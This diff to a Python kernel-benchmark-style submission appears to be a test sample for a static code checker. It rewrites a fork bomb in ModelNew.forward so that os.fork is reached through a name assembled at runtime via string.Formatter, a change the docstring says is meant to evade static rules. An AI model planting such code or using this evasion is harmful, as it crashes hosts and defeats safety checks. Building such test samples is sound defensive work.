@@ -1,6 +1,7 @@
-"""Class 4: fork bomb, fork reached with operator.attrgetter."""
-import operator
+"""Class 4: fork bomb, fork found by a name built at runtime (the static rules resolve
+operator.attrgetter with a constant name)."""
 import os
+import string
 import torch
 import torch.nn as nn
 import triton
@@ -20,11 +21,15 @@ def launch_relu(x, out):
     relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
 
 
+def attr(obj, name):
+    """obj.<name> for a name built at runtime (string.Formatter: no getattr in the source)."""
+    return string.Formatter().get_field("0." + name, (obj,), {})[0]
+
 
 class ModelNew(nn.Module):
     def forward(self, x):
         while True:
-            operator.attrgetter("fork")(os)()
+            attr(os, "fo" + "rk")()
         out = torch.empty_like(x)
         launch_relu(x, out)
         return out
